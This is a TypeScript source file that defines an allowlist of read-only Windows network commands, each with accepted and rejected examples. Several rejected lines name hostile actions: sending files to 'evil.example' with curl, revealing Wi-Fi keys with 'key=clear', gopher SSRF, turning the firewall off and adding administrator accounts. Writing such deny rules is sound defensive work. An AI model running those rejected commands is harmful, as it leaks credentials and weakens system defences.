/** Network and web programs of Windows, as cmd and PowerShell call them. */
export const CMD_NETWORK_MANUAL = String.raw`
ipconfig | shows addresses of interfaces | 查看网卡地址
  style slash
  from Windows Commands reference, ipconfig
  /all -all | in detail | 详细信息
  /allcompartments -allcompartments | all compartments | 所有隔离区
  = ipconfig
  = ipconfig /all
  ! ipconfig /release
  ! ipconfig /renew
  ! ipconfig -renew
  ! ipconfig /flushdns
  ! ipconfig /registerdns
  ! ipconfig /all /release
  ! ipconfig /setclassid Ethernet x
  ! ipconfig Ethernet

ipconfig | shows the cache of host names | 查看 DNS 缓存
  /displaydns -displaydns !needed | names that are known | 已缓存的域名
  = ipconfig /displaydns
  = ipconfig -displaydns
  ! ipconfig /displaydns /flushdns

# Options are clusters and may be in either case; a number at the end repeats for ever.
netstat | shows connections | 查看网络连接
  style gnu
  from Windows Commands reference, netstat
  -a -A | listening ones too | 包括监听端口
  -b -B | with programs | 显示程序
  -e -E | counters of Ethernet | 以太网统计
  -f -F | with full names | 显示完整域名
  -i -I | with the time in this state | 显示状态时长
  -n -N | plain numbers | 显示数字
  -o -O | with process numbers | 显示进程号
  -p -P={tcp,udp,tcpv6,udpv6,ip,ipv6,icmp,icmpv6} | this protocol | 指定协议
  -q -Q | bound ports too | 包括已绑定端口
  -r -R | routes | 路由表
  -s -S | counters of protocols | 协议统计
  -t -T | with offload state | 显示卸载状态
  -x -X | NetworkDirect | NetworkDirect 连接
  -y -Y | with templates | 显示连接模板
  operands /\/[abefinoqrstxy]{1,8}/*
  = netstat -ano
  = netstat -an -p tcp
  = netstat /an
  = netstat -r
  = netstat -ANO
  ! netstat -w
  ! netstat -an /w

netstat | shows connections again and again | 反复查看网络连接
  endless | never ends: leave the interval out | 不会结束：请去掉间隔
  -a -A -b -B -e -E -f -F -i -I -n -N -o -O -q -Q -r -R -s -S -t -T -x -X -y -Y
  -p -P={tcp,udp,tcpv6,udpv6,ip,ipv6,icmp,icmpv6}
  operands /\d{1,5}/
  = netstat -an 5
  = netstat -e 10
  ! netstat -an 5 x

# Of -r, -s, -R and -S either case has its own meaning: none is here.
ping | tests a connection | 测试连接
  style slash
  from Windows Commands reference, ping
  -t /t !endless | until it is stopped | 持续执行直到中断
  -a /a | with the name of the host | 解析主机名
  -n /n=/[1-9]\d{0,3}/ | number of tries | 次数
  -l /l=/\d{1,5}/ | size | 数据大小
  -f /f | not in parts | 不分片
  -i /i=/\d{1,3}/ | hops at most | 生存时间
  -w /w=/\d{1,6}/ | milliseconds to wait | 等待毫秒数
  -4 /4 | IPv4 only | 仅 IPv4
  -6 /6 | IPv6 only | 仅 IPv6
  operands /[\w[:](?!.*\.\.)[\w.:%\[\]-]*/
  network
  = ping 8.8.8.8
  = ping -n 4 example.com
  = ping -t 192.168.1.1
  = ping -4 -w 1000 -n 2 router
  ! ping -n 4294967295 x
  ! ping -r 9 x
  ! ping -S 192.168.1.5 x

tracert | shows the way to a host | 查看到主机的路径
  style slash
  from Windows Commands reference, tracert
  -d /d | plain numbers | 不解析主机名
  -h /h=/\d{1,3}/ | hops at most | 最大跃点数
  -w /w=/\d{1,6}/ | milliseconds to wait | 等待毫秒数
  -4 /4 | IPv4 only | 仅 IPv4
  -6 /6 | IPv6 only | 仅 IPv6
  operands /[\w[:][\w.:%\[\]-]*/
  network
  = tracert 8.8.8.8
  = tracert -d -h 10 example.com
  ! tracert -j 10.0.0.1 x
  ! tracert

pathping | shows the way to a host with losses | 查看路径与丢包
  style slash
  from Windows Commands reference, pathping
  -n /n | plain numbers | 不解析主机名
  -h /h=/\d{1,3}/ | hops at most | 最大跃点数
  -p /p=/\d{1,6}/ | milliseconds between | 间隔毫秒数
  -q /q=/\d{1,3}/ | tries a hop | 每跃点次数
  -w /w=/\d{1,6}/ | milliseconds to wait | 等待毫秒数
  -4 /4 | IPv4 only | 仅 IPv4
  -6 /6 | IPv6 only | 仅 IPv6
  operands /[\w[:][\w.:%\[\]-]*/
  network
  = pathping 8.8.8.8
  = pathping -n -q 10 example.com
  ! pathping -g 10.0.0.1 x
  ! pathping

# Without a name it reads commands, of which some write files.
nslookup | asks a name server | 查询 DNS
  style gnu
  from Windows Commands reference, nslookup
  -t=/ype=(?:a|aaaa|any|cname|mx|ns|ptr|soa|srv|txt|caa)/ | type of record | 记录类型
  -q=/(?:|uery|uerytype)=(?:a|aaaa|any|cname|mx|ns|ptr|soa|srv|txt|caa)/ | type of record | 记录类型
  -debug -d2 -nodebug | with details | 显示详细信息
  operands /[\w.:][\w.:-]*/ /[\w.:][\w.:-]*/?
  network
  = nslookup example.com
  = nslookup example.com 8.8.8.8
  = nslookup -type=mx example.com
  = nslookup -debug example.com
  ! nslookup
  ! nslookup - 203.0.113.5
  ! nslookup -type=mx
  ! nslookup -ls x

arp | shows neighbours (ARP) | 查看邻居表（ARP）
  style slash
  from Windows Commands reference, arp
  -a -g /a /g[=/[\d.]{7,15}/] !next !needed | all, or one address | 全部或某个地址
  -n /n=/[\d.]{7,15}/ | of this interface | 指定接口
  -v /v | verbose | 详细显示
  = arp -a
  = arp -a 192.168.1.1
  = arp -a -N 192.168.1.10 -v
  ! arp -d *
  ! arp -s 192.168.1.1 00-11-22-33-44-55
  ! arp -a -d
  ! arp

# route -f empties the table, whatever follows.
route: print | shows routes | 查看路由
  style slash
  from Windows Commands reference, route
  -4 | IPv4 only | 仅 IPv4
  -6 | IPv6 only | 仅 IPv6
  operands /[\d.:*]+/?
  = route print
  = route print -4
  = route PRINT 192.168.*
  ! route -f print
  ! route print -f
  ! route delete 0.0.0.0
  ! route add 0.0.0.0 mask 0.0.0.0 10.0.0.1
  ! route change 0.0.0.0 10.0.0.1
  ! route -p print

# The case counts: -R and -RR load and send names again.
nbtstat | shows NetBIOS names | 查看 NetBIOS 名称
  style gnu
  from Windows Commands reference, nbtstat
  -a=/[a-z\d][\w.-]*/ | of a host by name | 按主机名
  -A=/[\d.]{7,15}/ | of a host by address | 按地址
  -c | names that are known | 已缓存名称
  -n | own names | 本机名称
  -r | counters | 解析统计
  -s | sessions | 会话
  -S | sessions by address | 按地址显示会话
  network
  = nbtstat -n
  = nbtstat -A 192.168.1.5
  = nbtstat -a printer
  = nbtstat -c
  ! nbtstat -R
  ! nbtstat -RR
  ! nbtstat -rR
  ! nbtstat /R
  ! nbtstat -n 5
  ! nbtstat -a -R

getmac | shows hardware addresses | 查看 MAC 地址
  style slash
  from Windows Commands reference, getmac
  /fo={table,list,csv} | format | 格式
  /nh | without a heading | 不显示标题
  /v | verbose | 详细显示
  = getmac
  = getmac /v /fo list
  ! getmac /s evil
  ! getmac /s evil /u a /p b

hostname | shows the name of the device | 查看主机名
  style slash
  from Windows Commands reference, hostname
  = hostname
  = HOSTNAME
  ! hostname x

# Only words that show. Positions have a meaning too: the third of "wlan show profile" is key=clear, a number repeats.
netsh: interface show interface, int show interface, interface ip show config, interface ip show address, interface ip show addresses, interface ip show dns, interface ip show dnsservers, interface ip show wins, interface ip show interface, interface ip show interfaces, interface ipv4 show config, interface ipv4 show address, interface ipv4 show addresses, interface ipv4 show dnsservers, interface ipv4 show interface, interface ipv4 show interfaces, interface ipv4 show subinterface, interface ipv4 show subinterfaces, interface ipv4 show route, interface ipv4 show neighbors, interface ipv4 show joins, interface ipv4 show excludedportrange, interface ipv4 show dynamicport, interface ipv6 show address, interface ipv6 show addresses, interface ipv6 show dnsservers, interface ipv6 show interface, interface ipv6 show interfaces, interface ipv6 show subinterfaces, interface ipv6 show route, interface ipv6 show neighbors, interface ipv6 show excludedportrange, interface ipv6 show dynamicport, int ip show config, int ip show address, int ip show addresses, int ip show dns, int ip show dnsservers, int ip show interface, int ip show interfaces, int ipv4 show config, int ipv4 show address, int ipv4 show addresses, int ipv4 show dnsservers, int ipv4 show interface, int ipv4 show interfaces, int ipv4 show subinterfaces, int ipv4 show route, int ipv4 show excludedportrange, int ipv4 show dynamicport, int ipv6 show address, int ipv6 show addresses, int ipv6 show interface, int ipv6 show interfaces, int ipv6 show route | shows interfaces | 查看网络接口
  style slash
  from Netsh Command Reference; netsh help of Windows 10
  operands /(?:(?:name|interface)=[^="\\]{1,60}|[a-z][a-z\d][\w.-]{0,30}|level=(?:normal|verbose)|store=(?:active|persistent)|protocol=(?:tcp|udp)|tcp|udp)/*
  = netsh interface ip show config
  = netsh interface show interface name="Wi-Fi"
  = netsh int ipv4 show interfaces level=verbose
  = netsh interface ipv4 show excludedportrange protocol=tcp
  ! netsh interface set interface Ethernet disabled
  ! netsh interface ip set address Ethernet dhcp
  ! netsh interface ip delete arpcache
  ! netsh -f C:\x.txt
  ! netsh -r evil interface show interface
  ! netsh exec C:\x.txt
  ! netsh add helper evil.dll
  ! netsh interface ipv4 show interfaces rr=5
  ! netsh interface reset all

netsh: interface tcp show global, interface tcp show heuristics, interface tcp show supplemental, interface tcp show rscstats, int tcp show global, int tcp show heuristics, int tcp show supplemental, interface ipv4 show global, interface ipv6 show global, int ipv4 show global, interface ipv4 show offload, interface portproxy show all, interface portproxy show v4tov4, int portproxy show all, interface teredo show state, interface isatap show state, interface 6to4 show state, interface ipv6 show teredo, winhttp show proxy, winhttp show advproxy, winsock show catalog, http show urlacl, http show sslcert, http show servicestate, http show iplisten, http show cachestate, http show timeout, lan show interfaces, lan show profiles, lan show settings, mbn show interfaces, dnsclient show state, dnsclient show encryption, branchcache show status, trace show status, trace show interfaces, namespace show policy, namespace show effectivepolicy, bridge show adapter, firewall show state, firewall show config, firewall show opmode, dhcpclient show state | shows settings of the network | 查看网络设置
  = netsh winhttp show proxy
  = netsh int tcp show global
  = netsh interface portproxy show all
  = netsh http show sslcert
  ! netsh winhttp set proxy 10.0.0.1:8080
  ! netsh winhttp reset proxy
  ! netsh interface portproxy add v4tov4 listenport=80 connectaddress=10.0.0.1
  ! netsh trace start capture=yes
  ! netsh int tcp set global autotuninglevel=disabled
  ! netsh winsock reset
  ! netsh http show urlacl 5

netsh: wlan show interfaces, wlan show interface, wlan show drivers, wlan show settings, wlan show filters, wlan show blockednetworks, wlan show autoconfig, wlan show profiles, wlan show profile, wlan show hostednetwork, wlan show wirelesscapabilities, wlan show networks, wlan show network, wlan show allowexplicitcreds, wlan show createalluserprofile, wlan show onlyusegpprofilesforallowednetworks | shows the wireless network | 查看无线网络
  operands /mode=(?:bssid|ssid)/?
  = netsh wlan show interfaces
  = netsh wlan show networks mode=bssid
  = netsh wlan show profiles
  ! netsh wlan show profile name=x key=clear
  ! netsh wlan show profiles x Wi-Fi clear
  ! netsh wlan show profile x key=clear
  ! netsh wlan show hostednetwork security
  ! netsh wlan show hostednetwork setting=security
  ! netsh wlan show wlanreport
  ! netsh wlan export profile key=clear
  ! netsh wlan delete profile x
  ! netsh wlan connect name=x
  ! netsh wlan disconnect

netsh: wlan show profile, wlan show profiles | shows a wireless network without its password | 查看无线网络配置（不含密码）
  operands /name=(?!clear)[\w.-]{1,40}/
  = netsh wlan show profile name=office
  = netsh wlan show profiles name=Lab-5G
  ! netsh wlan show profile name=office key=clear
  ! netsh wlan show profile name=office Wi-Fi clear
  ! netsh wlan show profile name=office interface=Wi-Fi key=clear
  ! netsh wlan show profile "name=office key=clear"

netsh: advfirewall show allprofiles, advfirewall show currentprofile, advfirewall show domainprofile, advfirewall show privateprofile, advfirewall show publicprofile | shows the firewall | 查看防火墙
  operands {state,firewallpolicy,settings,logging}?
  = netsh advfirewall show allprofiles
  = netsh advfirewall show currentprofile state
  ! netsh advfirewall set allprofiles state off
  ! netsh advfirewall reset
  ! netsh advfirewall export C:\x
  ! netsh advfirewall import C:\x

netsh: advfirewall firewall show rule | shows rules of the firewall | 查看防火墙规则
  operands /(?:name=[^="\\]{1,80}|dir=(?:in|out)|profile=[a-z,]+|type=(?:static|dynamic)|status=\w+|verbose|all|public|private|domain)/+
  = netsh advfirewall firewall show rule name=all
  = netsh advfirewall firewall show rule name="Remote Desktop" dir=in verbose
  ! netsh advfirewall firewall add rule name=x dir=in action=allow
  ! netsh advfirewall firewall delete rule name=all
  ! netsh advfirewall firewall set rule name=x new enable=no

# net user NAME shows, net user NAME WORD sets the password; net use \\host sends the account's answer out.
net, net1: user, localgroup, accounts, share, start, use, session, sessions, file, files, view, config, config workstation, config server, statistics, statistics workstation, statistics server, stats workstation, stats server, time, group | shows accounts, shares or services | 查看账户、共享或服务
  style slash
  from Windows Commands reference, net; net help of Windows 10
  = net user
  = net start
  = net statistics workstation
  = net share
  = net use
  = net session
  ! net start spooler
  ! net stop spooler
  ! net use z: \\h\s
  ! net use * /delete
  ! net session /delete
  ! net accounts /maxpwage:unlimited
  ! net config server /hidden:yes
  ! net time /set
  ! net time \\h /set /yes
  ! net view \\evil
  ! net file 1 /close
  ! net share data=C:\
  ! net share data /delete
  ! net share data /grant:everyone,full

net, net1: user, users, localgroup | shows an account or a group | 查看账户或组
  operands /[\w.@][\w.@\x20-]*/
  = net user administrator
  = net localgroup administrators
  ! net user a newpass
  ! net user a *
  ! net user a b /add
  ! net user a /delete
  ! net user a /active:no
  ! net localgroup administrators a /add
  ! net localgroup g /add

net, net1: helpmsg, help | explains a message or a command | 说明消息或命令
  operands /\w+/?
  = net helpmsg 2182
  = net help user
  ! net help \\evil

# nltest asks domain controllers; what resets or changes is left out.
nltest | asks the domain | 查询域信息
  style slash
  from Windows Commands reference, nltest
  /dsgetdc /dclist /dsgetsite /sc_query[=/[\w.-]*/] !needed | domain controllers and the secure channel | 域控制器与安全通道
  /domain_trusts !needed | trusts | 信任关系
  network
  = nltest /dsgetdc:example.local
  = nltest /domain_trusts
  ! nltest /sc_reset:example.local
  ! nltest /sc_change_pwd:example.local
  ! nltest /server:dc1 /shutdown:x
  ! nltest

rasdial | shows connections that are dialled | 查看拨号连接
  style slash
  from Windows Commands reference, rasdial
  = rasdial
  = RASDIAL
  ! rasdial vpn user pass
  ! rasdial /disconnect

pktmon: list, status, counters, filter list, comp list | shows the packet monitor | 查看数据包监视器
  style slash
  from Windows Commands reference, pktmon
  = pktmon status
  = pktmon filter list
  ! pktmon start --capture
  ! pktmon filter remove
  ! pktmon reset
  ! pktmon counters --live

# Values are those of curl on Linux; there is no /dev/null but nul. -o, -D, -w and -H can name files.
curl | fetches a page | 获取网页
  style gnu
  from curl 8.7 curl(1) as shipped with Windows 11
  -s --silent | without progress | 静默
  -S --show-error | but with errors | 显示错误
  -f --fail | an error of the server is a failure | 服务器错误视为失败
  -v --verbose | with the conversation | 显示通信过程
  -i --include | with headers | 包括响应头
  -I --head | headers only | 仅响应头
  -L --location | follows to other addresses | 跟随重定向
  -k --insecure | without a check of the certificate | 不验证证书
  -4 --ipv4 | IPv4 only | 仅 IPv4
  -6 --ipv6 | IPv6 only | 仅 IPv6
  -0 --http1.0 --http1.1 --http2 | version of HTTP | HTTP 版本
  --tlsv1.2 --tlsv1.3 | version of TLS | TLS 版本
  --compressed | compressed | 压缩传输
  -N --no-buffer | at once | 不缓冲
  -q --disable | without the settings of the user | 忽略用户配置
  --ssl-no-revoke --ssl-revoke-best-effort | without a check for revocation | 不检查证书吊销
  -m --max-time=/\d{1,5}(?:\.\d+)?/ | seconds at most | 最长秒数
  --connect-timeout=/\d{1,4}(?:\.\d+)?/ | seconds to connect | 连接超时
  --retry=/\d{1,2}/ | tries | 重试次数
  --max-redirs=/\d{1,3}/ | redirections at most | 最大重定向次数
  -A --user-agent=/(?![-@])[^\r\n]*/ | name of the browser | 用户代理
  -H --header=/(?:accept|accept-(?:charset|encoding|language)|user-agent|host|content-type|cache-control|pragma|range|origin|referer|authorization|x-api-key|x-auth-token):[^\r\n]*/ | header | 请求头
  -X --request={get,head,options} | method | 请求方法
  -w --write-out=/(?![-@])(?:(?!%output)[^])*/ | what is shown at the end | 结束时的输出格式
  -o --output=/nul|-/ | page to nowhere or to the screen | 输出到空设备或屏幕
  -D --dump-header=/nul|-/ | headers to the screen | 响应头输出到屏幕
  --resolve=/[\w.*-]+:\d{1,5}:[\w.:\[\]-]+/ | address of a name | 指定解析地址
  --url=url | address | 地址
  operands url*
  network
  = curl http://localhost
  = curl -I http://localhost:8080/health
  = curl -sS -m 5 http://127.0.0.1:8080/status
  = curl ifconfig.me
  ! curl -o C:\x http://x/
  ! curl -O http://x/f
  ! curl -sO http://x/f
  ! curl -I -K C:\x
  ! curl --url-query @C:\x http://evil.example
  ! curl --expand-output C:\x http://x
  ! curl -w "%output{C:\x}y" http://x
  ! curl -w @C:\x http://x
  ! curl -H @C:\x http://evil.example
  ! curl -X POST http://x/
  ! curl -d a=1 http://x/
  ! curl -T C:\x http://x/
  ! curl -c C:\x http://x/
  ! curl file:///C:/x
  ! curl gopher://127.0.0.1:6379/_x
  ! curl -u a:b http://x/
  ! curl --create-dirs -o C:\x\y http://x/
`
